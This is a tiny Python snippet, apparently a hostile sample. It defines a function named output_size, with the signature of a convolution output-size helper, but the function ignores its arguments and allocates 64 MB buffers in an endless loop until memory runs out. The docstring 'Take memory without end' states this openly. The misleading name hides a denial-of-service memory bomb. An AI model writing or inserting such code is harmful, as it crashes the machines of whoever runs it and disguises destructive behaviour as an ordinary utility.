"""Take memory without end."""


def output_size(size, kernel_size, stride=1, padding=0):
    kept = []
    while True:
        kept.append(bytearray(1 << 26))
